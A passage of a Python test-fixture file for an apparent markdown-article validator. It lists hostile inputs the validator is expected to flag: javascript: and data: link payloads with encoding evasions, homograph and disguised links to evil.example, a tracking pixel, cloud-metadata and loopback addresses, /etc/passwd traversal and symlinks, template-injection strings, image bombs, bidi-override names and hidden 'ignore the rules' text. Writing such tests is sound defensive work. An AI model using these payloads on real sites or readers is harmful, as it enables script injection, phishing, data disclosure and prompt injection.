        ("hidden-value", "hidden=hidden"), ("transparent", "style='color:transparent'"), ("font-short", "style='font:0/0 a'"),
        ("entity", "style='display&#58;none'"), ("comment", "style='display:/**/none'"), ("case", "STYLE='DISPLAY:NONE'"),
        ("width", "style='max-width:0;overflow:hidden'"), ("scale", "style='transform:scale(0)'"), ("top", "style='top:-5000px'"),
        ("rgba", "style='color:rgba(0,0,0,0)'"), ("same", "style='background:#000;color:#000'"), ("line", "style='line-height:0'"),
    )
) + (
    body("hidden-font", "A <font color=white>cheap pills</font> b\n", "injected-spam 5"),
    body("hidden-font-near", "A <font color='#FFFFFE'>cheap pills</font> b\n", "injected-spam 5"),
    body("hidden-font-size", "A <font size=0>cheap pills</font> b\n", "injected-spam 5"),
    body("hidden-input", "A <input type=hidden value='cheap pills'> b\n", "active-content 5"),
    body("hidden-div", "<div style='display:none'>\n\ncheap pills\n\n</div>\n\nb\n", "injected-spam 5", words=("b",)),
    body("hidden-noscript", "<noscript>cheap pills</noscript> b\n", "active-content 5", never=("cheap pills",)),
    body("hidden-tags", "A" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the rules") + " b\n", "direction-trick 5"),
    body("hidden-zero-width", "A" + "\u200b\u2060\u200b" * 40 + " b\n", "direction-trick 5"),
    body("hidden-not", "A <span style='font-size:10px;color:whitesmoke;max-height:100px;opacity:0.5'>seen</span>\n", "active-content 5",
         words=("seen",)),
)  # fmt: skip

_MANY = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x",
         "ftp://a.example/x", "tel:*21*0900", "bitcoin:x", "about:blank", "blob:x", "view-source:x", "ms-word:x",
         "jar:x", "intent://x", "feed:javascript:alert(1)", "magnet:?x", "ssh://a.example", "cid:x", "chrome://x")  # fmt: skip

LINKS = (
    *(body(f"scheme-{i}", f"See [words]({address}) here\n", "active-content 5", words=("words",)) for i, address in enumerate(_MANY)),
    body("scheme-file", "See [words](file:///etc/passwd) here\n", "private-link 5", words=("words",)),
    body("scheme-entity", "See [words](&#106;avascript:alert(1)) here\n", "active-content 5", words=("words",)),
    body("scheme-entities", "See [words](&#x6A;&#x61;vascript&colon;alert(1)) here\n", "active-content 5", words=("words",)),
    body("scheme-tab", "See [words](<java\tscript:alert(1)>) here\n", "active-content 5", words=("words",)),
    body("scheme-tab-entity", "See [words](java&Tab;script:alert(1)) here\n", "active-content 5", words=("words",)),
    body("scheme-break-entity", "See [words](java&NewLine;script:alert(1)) here\n", "active-content 5", words=("words",)),
    body("scheme-control-entity", "See [words](&#1;javascript:alert(1)) here\n", "active-content 5", "direction-trick 5", words=("words",)),
    body("scheme-space", "See [words](< javascript:alert(1)>) here\n", "active-content 5", words=("words",)),
    body("scheme-zero-width", "See [words](java\u200bscript:alert(1)) here\n", "active-content 5", words=("words",)),
    body("scheme-percent", "See [words](javascript%3Aalert(1)) here\n", "file-not-found 5", words=("words",)),
    body("scheme-reference", "See [words][1] here\n\n[1]: javascript:alert(1)\n", "active-content 7", words=("words",)),
    body("scheme-autolink", "See <javascript:alert(1)> here\n", words=("See", "here")),
    body("scheme-autolink-data", "See <data:text/html,x> here\n", words=("See", "here")),
    body("scheme-picture", "![words](javascript:alert(1))\n", "borrowed-picture 5"),
    body("scheme-picture-data", "![words](data:image/png;base64,AAAA)\n", "pasted-picture 5", words=("words",)),
    body("scheme-in-note", "A[^1]\n\n[^1]: [words](javascript:alert(1))\n", "active-content 7", words=("words",)),
    body("scheme-in-table", "|a|b|\n|-|-|\n|[words](javascript:alert(1))|c|\n", "active-content 7", words=("words",)),
    body("host-slashes", "See [words](//evil.example/x) here\n", "missing-https 5", words=("words",)),
    body("host-backslashes", "See [words](\\\\\\\\evil.example/x) here\n", "outside-folder 5", words=("words",)),
    body("host-mixed-slashes", "See [words](/\\evil.example/x) here\n", "outside-folder 5", words=("words",)),
    body("host-one-slash", "See [words](https:/evil.example/x) here\n", "link-in-disguise 5", words=("words",)),
    body("host-no-slash", "See [words](https:evil.example) here\n", "link-in-disguise 5", words=("words",)),
    body("host-four-slashes", "See [words](https:////evil.example) here\n", "link-in-disguise 5", words=("words",)),
    body("host-tab", "See [words](<https://ev\til.example>) here\n", "link-in-disguise 5", words=("words",)),
    body("userinfo", "See [words](https://www.nhs.uk@evil.example/) here\n", "link-in-disguise 5", words=("words",)),
    body("userinfo-percent", "See [words](https://www.nhs.uk%40evil.example/) here\n", "link-in-disguise 5", words=("words",)),
    body("homograph", "See [words](https://www.\u0440aypal.com/) here\n", "link-in-disguise 5", words=("words",)),
    body("homograph-whole", "See [words](https://\u0430\u0440\u0440\u04cf\u0435.com/) here\n", "link-in-disguise 5", words=("words",)),
    body("homograph-punycode", "See [words](https://xn--pypal-4ve.com/) here\n", "link-in-disguise 5", words=("words",)),
    body("homograph-full-width", "See [words](https://ｅvil.example/) here\n", "link-in-disguise 5", words=("words",)),
    body("homograph-dot", "See [words](https://www。evil。example/) here\n", "link-in-disguise 5", words=("words",)),
    body("mismatch", "See [www.nhs.uk](https://evil.example/) here\n", "link-in-disguise 5", words=("www.nhs.uk",)),
    body("mismatch-scheme", "See [https://www.nhs.uk/page](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-suffix", "See [nhs.uk](https://nhs.uk.evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-emphasis", "See [**www.nhs.uk**](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-mail", "See [ada@nhs.uk](mailto:eve@evil.example) here\n", "link-in-disguise 5"),
    body("mismatch-among-words", "See [all of www.nhs.uk here](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-wide-dots", "See [www\uff0enhs\uff0euk](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-leader-dots", "See [nhs\u2024uk](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-zero-width", "See [w\u200bww.nhs.uk](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mismatch-mail-to-site", "See [ada@nhs.uk](https://evil.example/) here\n", "link-in-disguise 5"),
    body("mail-two-lines", "See [words](mailto:a@b.example%0d%0aBcc:x@y.example) here\n", "link-in-disguise 5"),
    body("mail-nobody", "See [words](mailto:) and [more](mailto:javascript:alert) here\n", "link-in-disguise 5"),
    body("mail-honest", "See [one](mailto:a.b+c@d.example), [two](mailto:a@b.example,%20c@d.example), [friends](mailto:?subject=Hi)\n"),
    body("host-no-letters", "See [words](https://xn--/) here\n", "link-in-disguise 5"),
    body("host-digits", "See [words](https://\u0660.example/) here\n", "link-in-disguise 5"),
    body("picture-no-name", "![A cup](?q=1)\n\n![A bowl](./)\n", "picture-missing 5", "picture-missing 7"),
    body("ip-dword", "See [words](http://2130706433/) here\n", "link-in-disguise 5"),
    body("ip-hex", "See [words](http://0x7f000001/) here\n", "link-in-disguise 5"),
    body("ip-octal", "See [words](http://0177.0.0.01/) here\n", "link-in-disguise 5"),
    body("ip-dotted", "See [words](http://93.184.216.34/) here\n", "link-in-disguise 5"),
    body("ip-six", "See [words](http://[::ffff:7f00:1]/) here\n", "private-link 5"),
    body("ip-six-open", "See [words](http://[2606:2800:220:1::1]/) here\n", "link-in-disguise 5"),
    body("ip-private", "See [words](http://10.0.0.7/) here\n", "private-link 5"),
    body("ip-loopback", "See [words](http://127.0.0.1:8000/) here\n", "private-link 5"),
    body("ip-six-loopback", "See [words](http://[::1]/) here\n", "private-link 5"),
    body("ip-metadata", "See [words](http://169.254.169.254/latest/) here\n", "private-link 5"),
    body("localhost", "See [words](http://localhost:8000/) here\n", "private-link 5"),
    body("local-name", "See [words](http://printer.local/) here\n", "private-link 5"),
    body("intranet", "See [words](http://intranet/) here\n", "private-link 5"),
    body("internal", "See [words](https://wiki.trust.internal/page) here\n", "private-link 5"),
    body("bad-port", "See [words](https://a.example:99999/) here\n", "link-in-disguise 5"),
    body("bad-six", "See [words](https://[::1/) here\n", "link-in-disguise 5"),
    body("tel-honest", "Call [the helpline](tel:+44-20-7946-0000) or [111](tel:111)\n", words=("helpline", "111")),
    body("tel-mismatch", "Call [0800 123 4567](tel:09061234999) now\n", "link-in-disguise 5"),
    body("mail-header", "See [words](mailto:a@a.example?bcc=b@b.example&subject=x) here\n", words=("words",)),
    body("empty-link", "See [words]() here\n", "missing-https 5", words=("words",)),
    body("pixel", "A ![](https://evil.example/pixel.gif?u=1) b\n", "borrowed-picture 5", "description-missing 5", never=("evil.example",)),
    body("pixel-slashes", "A ![x](//evil.example/pixel.gif) b\n", "borrowed-picture 5", words=("A", "b")),
    body("honest-links", "[The institute](https://www.ihi.org/a_(b)?c=d&e=f#g), [ihi.org](https://www.ihi.org/), <https://a.example/x>, "
         "[mail](mailto:ada@example.org), [müller](https://müller.example/), [пример](https://пример.рф/), [part](#part)\n\n## Part\n",
         words=("The institute", "ihi.org", "müller", "пример")),
    body("traversal", "[w](../../../etc/passwd) ![x](../../contributors/x.png)\n", "outside-folder 5", never=("root:x",)),
    body("traversal-percent", "[w](%2e%2e/%2e%2e/etc/passwd)\n", "outside-folder 5", never=("root:x",)),
    body("traversal-twice", "[w](%252e%252e/etc/passwd)\n", "outside-folder 5", never=("root:x",)),
    body("traversal-backslash", "![w](..\\\\..\\\\secret.png)\n", "outside-folder 5"),
    body("absolute", "![w](/etc/passwd.png)\n", "outside-folder 5"),
    body("drive", "![w](C:/secret.png)\n", "borrowed-picture 5"),
    body("drive-link", "[w](C:\\\\secret.pdf) here\n", "private-link 5", words=("here",)),
    body("unc", "![w](\\\\\\\\host\\\\share\\\\a.png)\n", "outside-folder 5"),
    body("home", "[w](~/secret.pdf)\n", "outside-folder 5"),
    body("nul-percent", "[w](images/a%00.pdf)\n", "file-not-found 5"),
    body("self-slash", "[w](./10-a.md) [v](issue.md)\n", words=("w", "v")),
)  # fmt: skip

_persian = "می\u200cخواهم"
WORDS = (
    body(
        "cells-beyond",
        "| Ward | Falls |\n|---|---|\n| Elm | 14 | three at night |\n",
        "words-dropped 7",
        words=("Elm", "14"),
    ),
    body("cells-beyond-known", "| Elm | 14 |\n|---|---|\n| Ash | 9 | Elm |\n", "words-dropped 7", words=("Ash",)),
    body("note-twice", "One[^1].\n\n[^1]: more of one\n[^1]: one and more\n", "words-dropped 7", words=("one and more",)),
    body("short-twice", "*[NHS]: a health service\n*[NHS]: a service\n\nThe NHS is a health service.\n", "words-dropped 5"),
    body("address-twice", "[a] or b\n\n[a]: https://a.example/ 'b'\n[A]: https://b.example/\n", "words-dropped 7"),
    body("titles-of-links", "[a](https://a.example/ 'First tip'), [b](https://a.example/ 'Second tip'), <https://c.example/>\n",
         words=("First tip", "Second tip")),
    body("codes-of-controls", "Ring &#7; and &#x1B;[31m now\n", "direction-trick 5", words=("Ring",), never=("\x07", "\x1b")),
    body("codes-of-nothing", "Set &#xFFFE; and &#xFDD0; and &#1114112; now\n", "direction-trick 5", never=("\ufffe", "\ufdd0")),
    body("codes-shown", "Write `&#7;`, or a dash: &#150;\n", words=("Write &#7;", "–")),
    body(
        "reference-unused",
        "Words [here][a].\n\n[a]: https://a.example/\n[b]: https://b.example/ 'Lost words'\n",
        "words-dropped 8",
        words=("Words here",),
    ),
    body(
        "lists-as-on-github",
        "Bring:\n- a cup\n- a spoon\n  - of wood\n\n1) boil\n2) pour\n",
        words=("a cup", "a spoon", "of wood", "boil"),
        never=("- a cup - a spoon", "<p>1)"),
    ),
    body("table-after-words", "Falls:\n| Ward | Count |\n|---|---|\n| Elm | 14 |\n", words=("Elm",), never=("|---|",)),
    body("bidi-override", "Open \u202egpj.exe\u202c now\n", "direction-trick 5"),
    body("bidi-embedding", "Open \u202agpj\u202c now\n", "direction-trick 5"),
    body("bidi-isolate-open", "Open \u2067gpj now\n\nNext\n", "direction-trick 5"),
    body("bidi-isolate-closed-first", "Open \u2069gpj\u2067 now\n", "direction-trick 5"),
    body("bidi-entity", "Open &#x202e;gpj.exe now\n", "direction-trick 5"),
    body("control-isolates", "שלום \u2066NHS\u2069 עולם\n", words=("NHS",)),
    body("control-persian", f"{_persian} خوب\n", words=(_persian,)),
    body("control-family", "A family 👨\u200d👩\u200d👧\u200d👦 at home\n", words=("👨\u200d👩\u200d👧\u200d👦",)),
    body("control-scotland", "From \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f with love\n",
         words=("\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",)),
    body("control-marks", "שלום\u200f, and\u200e more\n", words=("more",)),
    body("control-scripts", "ಕನ್ನಡ தமிழ் ไทย 日本語 한국어 Ελληνικά العربية हिन्दी Māori\n",
         words=("ಕನ್ನಡ தமிழ் ไทย 日本語 한국어 Ελληνικά العربية हिन्दी Māori",)),
    body("control-nfd", unicodedata.normalize("NFD", "Māori café") + "\n", words=(unicodedata.normalize("NFD", "Māori café"),)),
    body("control-soft-hyphen", "Donau\u00addampf\n", words=("Donau\u00addampf",)),
    body("template-sum", "We got {{ 7*7 }} of them\n", words=("We got {{ 7*7 }} of them",), never=("We got 49",)),
    body("template-block", "So {% x %} and {# y #} and {%- z -%}\n", words=("{% x %} and {# y #} and {%- z -%}",)),
    body("template-class", "So {{ `''.__class__.__mro__` }}\n", words=("''.__class__.__mro__",), never=("<class",)),
    body("template-bomb", "So {% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}\n", words=("range(99999)",)),
    body("template-merge", "Dear \\*|FNAME|\\* %%first%% [[name]] ${name} #{name} <%= name %> %recipient.name%\n",
         words=("*|FNAME|* %%first%%", "${name} #{name} <%= name %> %recipient.name%")),
    body("template-marker", "{{ unsubscribe_url }} https://edgepress.invalid/unsubscribe\n", words=("{{ unsubscribe_url }}",)),
    Case("template-summary", {"10-a.md": "---\ntitle: A\nauthors: [ada]\nsummary: 'Hello {{ config }} {% include \"/etc/passwd\" %}'\n---\nW.\n"},
         (), ("Hello {{ config }}",), ("root:x",)),
)  # fmt: skip


def _folder_loop(at: Path) -> None:
    (at / "10-a.md").write_text(HEAD + "Words stay.\n")
    (at / "loop").symlink_to(at)
    (at / "images").symlink_to("/etc")
    (at / "20-b.md").symlink_to("/etc/passwd")
    (at / "30-c.md").symlink_to("30-c.md")
    (at / "40-d.md").symlink_to("10-a.md")
    (at / "50-e.md").symlink_to("nowhere.md")


def _pipes(at: Path) -> None:
    (at / "10-a.md").write_text(HEAD + "Words stay.\n\n![A cup](images/a.png)\n")
    os.mkfifo(at / "20-b.md")
    (at / "images").mkdir()
    os.mkfifo(at / "images" / "a.png")
    (at / "issue.md").unlink()
    os.mkfifo(at / "issue.md")


def _odd_names(at: Path) -> None:
    (at / "10-a.md").write_text(HEAD + "Words stay.\n")
    (at / "images").mkdir()
    for name in (
        "con.png",
        "two\nlines.png",
        "tab\there.png",
        '"quoted".png',
        "<script>.png",
        "back\\slash.png",
        "dot.png.",
        "blank.png ",
    ):
        (at / "images" / name).write_bytes(pic.png(8, 8))
    (at / "images" / os.fsdecode(b"latin-\xe9.png")).write_bytes(pic.png(8, 8))
    (at / "images" / f"{'long' * 35}.png").write_bytes(pic.png(8, 8))


def _odd_articles(at: Path) -> None:
    for name in (
        "aux.md",
        "20-<b>x.md",
        "40-Größe.md",
        "60-a b.md",
        f"70-{'long' * 30}.md",
    ):
        (at / name).write_text(HEAD + "Words stay.\n")


def _article_folder(at: Path) -> None:
    (at / "10-a.md").mkdir()
    (at / "20-b.md").write_text(HEAD + "Words stay.\n")


def _issue_folder(at: Path) -> None:
    (at / "issue.md").unlink()
    (at / "issue.md").mkdir()
    (at / "issue.md" / "x.png").write_bytes(pic.png(8, 8))


def _deep(at: Path) -> None:
    (at / "10-a.md").write_text(HEAD + "Words stay.\n")
    (at / ("images/" + "d/" * 60)).mkdir(parents=True)


PATHS = (
    Case("pointers", _folder_loop, ("link-outside 1 loop", "link-outside 1 images", "link-outside 1 20-b.md", "link-outside 1 30-c.md",
                                    "link-outside 1 40-d.md", "link-outside 1 50-e.md"), ("Words stay.",), ("root:x",)),
    Case("pipes", _pipes, ("link-outside 1 20-b.md", "link-outside 1 images/a.png", "link-outside 1 issue.md", "issue-missing 1 .",
                           "picture-missing 7"), ("Words stay.", "A cup")),
    Case("odd-names", _odd_names, ("file-name 1 images/con.png", "file-name 1 images/two\\x0alines.png", "file-name 1 images/tab\\x09here.png",
         'file-name 1 images/"quoted".png', "file-name 1 images/<script>.png", "file-name 1 images/back\\slash.png",
         "file-name 1 images/dot.png.", "file-name 1 images/blank.png ", "file-name 1 images/latin-\\xdce9.png",
         f"file-name 1 images/{'long' * 35}.png"), ("Words stay.",)),
    Case("odd-articles", _odd_articles, ("file-name 1 aux.md", "slug-wrong 1 20-<b>x.md",
         "slug-wrong 1 40-Größe.md", "slug-wrong 1 60-a b.md", f"slug-wrong 1 70-{'long' * 30}.md",)),
    Case("article-is-folder", _article_folder, (), ("Words stay.",)),
    Case("issue-is-folder", _issue_folder, ("issue-missing 1 .",)),
    Case("deep-folders", _deep, ("file-name 1 images/d/d/d/d",), ("Words stay.",)),
    Case("case-twins", {"10-a.md": HEAD + "Words.\n", "images/Cup.png": pic.png(8, 8), "images/cup.png": pic.png(8, 8)},
         ("file-name 1 images/cup.png",), ("Words.",)),
    Case("accent-twins", {"10-a.md": HEAD + "Words.\n", "images/caf\u00e9.png": pic.png(8, 8), "images/cafe\u0301.png": pic.png(8, 8)},
         ("file-name 1 images/caf\u00e9.png",), ("Words.",)),
    Case("name-index", {"10-index.md": HEAD + "One.\n", "20-images.md": HEAD + "Two.\n", "30-files.md": HEAD + "Three.\n"}, (), ()),
    Case("program", {"10-a.md": HEAD + "[the tool](files/setup.exe)\n", "files/setup.exe": b"MZ" + _binary}, ("active-content 5",), ("the tool",)),
    Case("web-page", {"10-a.md": HEAD + "[the page](files/x.html)\n", "files/x.html": b"<script>alert(1)</script>"},
         ("active-content 5",), ("the page",)),
    Case("drawing", {"10-a.md": HEAD + "![A cup](images/x.svg)\n", "images/x.svg": b"<svg onload='alert(1)'/>"},
         ("picture-format 5", "picture-credit 5", "people-in-picture 5"), ("A cup",), ("onload",)),
    Case("thousand", {f"{i:04}-a{i}.md": HEAD + "Words.\n" for i in range(1, 1001)}, ("file-unreadable 1 .",)),
    Case("misplaced", {"10-a.md": HEAD + "[the list](50-e.txt)\n", "20-b.MD": HEAD + "Lost.\n", "30-c.docx": b"PK\x03\x04",
         "texts/40-d.md": HEAD + "Lost.\n", "50-e.txt": "A list.\n", "60-f.txt": "Lost.\n"},
         ("text-misplaced 1 20-b.MD", "text-misplaced 1 30-c.docx", "text-misplaced 1 texts/40-d.md", "text-misplaced 1 60-f.txt"), ("the list",)),
    *(Case(name, {"10-a.md": HEAD + f"Words of {name}.\n"}, (), (f"Words of {name}.",)) for name in ("index", "sitemap", "feeds")),
    Case("hidden-file", {"10-a.md": HEAD + "Words.\n", ".DS_Store": _binary, ".10-b.md.swp": _binary, "Thumbs.db": _binary}, (), ("Words.",)),
)  # fmt: skip

_square = pic.png(64, 64)
PICTURES = (
    picture("bomb-bits", "a.png", pic.wide_bit(), "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("bomb-header", "a.png", pic.png(50_000, 50_000, b"\0" * 100), "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("bomb-warning", "a.png", pic.png(10_000, 10_000, b"\0" * 100), "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("header-lies", "a.png", pic.png(2_000, 2_000, b"\0" * 100), "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("bomb-gif", "a.gif", pic.gif_canvas(), "picture-unreadable 1 images/a.gif", "picture-missing 7"),
    picture("bomb-frames", "a.gif", pic.moving(200), "picture-unreadable 1 images/a.gif", "picture-missing 7"),
    picture("bomb-film", "a.gif", pic.moving(3, (5_000, 4_000)), "picture-unreadable 1 images/a.gif", "picture-missing 7"),
    picture("bomb-words", "a.png", pic.words_bomb(), "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("bomb-profile", "a.png", pic.png(64, 64, before=pic.chunk(b"iCCP", b"x\0\0" + b"\x78\x9c" + b"\0" * 5000))),
    picture("svg-as-png", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "picture-unreadable 1 images/a.png",
            "picture-missing 7"),
    picture("html-as-jpg", "a.jpg", b"<html><script>alert(1)</script></html>", "picture-unreadable 1 images/a.jpg", "picture-missing 7"),
    picture("eps-as-png", "a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("zip-tail", "a.png", _square + b"PK\x03\x04SECRETZIP" + b"\0" * 100, never=("SECRETZIP",)),
    picture("page-tail", "a.gif", pic.drawn("GIF") + b"<script>alert('SECRETTAIL')</script>", never=("SECRETTAIL",)),
    picture("png-as-jpg", "a.jpg", _square),
    picture("truncated", "a.jpg", pic.drawn("JPEG")[:1500], "picture-unreadable 1 images/a.jpg", "picture-missing 7"),
    picture("truncated-png", "a.png", pic.drawn("PNG")[:-40], "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("zero-bytes", "a.png", b"", "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("random-bytes", "a.png", _binary, "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("nothing-wide", "a.png", pic.png(0, 0, b""), "picture-unreadable 1 images/a.png", "picture-missing 7"),
    picture("position", "a.jpg", pic.photo(place=True), "place-in-photo 7", never=("SECRETCAMERA", "SECRETCOMMENT", "Exif\0")),
    picture("camera", "a.jpg", pic.photo(), never=("SECRETCAMERA", "SECRETCOMMENT", "Exif\0")),
    picture("sideways", "a.jpg", pic.photo(6), never=("SECRETCAMERA", "Exif\0")),
    picture("broken-notes", "a.png", pic.broken_notes()),
    picture("moving", "a.gif", pic.moving()),
    picture("four-inks", "a.jpg", pic.drawn("JPEG", "CMYK")),
    picture("grey", "a.jpg", pic.drawn("JPEG", "L")),
    picture("sixteen-bits", "a.png", pic.drawn("PNG", "I;16")),
    picture("palette-clear", "a.png", pic.drawn("PNG", "P-clear")),
    picture("one-bit", "a.png", pic.drawn("PNG", "1")),
    picture("clear", "a.png", pic.drawn("PNG", "RGBA")),
    picture("grey-clear", "a.png", pic.drawn("PNG", "LA")),
    picture("webp", "a.webp", pic.drawn("WEBP")),
    picture("progressive", "a.jpg", pic.drawn("JPEG", progressive=True)),
    picture("capital-ending", "a.JPG", pic.drawn("JPEG")),
    picture("one-pixel", "a.png", pic.png(1, 1)),
    picture("very-wide", "a.png", pic.png(20_000, 2)),
    picture("very-high", "a.png", pic.png(2, 20_000)),
    picture("words-in-png", "a.png", pic.png(64, 64, before=pic.chunk(b"tEXt", b"Comment\0SECRETWORDS")), never=("SECRETWORDS",)),
)  # fmt: skip

BATCHES: Mapping[str, tuple[Case, ...]] = {
    "files": FILES, "details": DETAILS, "patterns": PATTERNS, "markdown": MARKDOWN, "html": HTML, "hidden": HIDDEN,
    "links": LINKS, "words": WORDS, "paths": PATHS, "pictures": PICTURES,
}  # fmt: skip
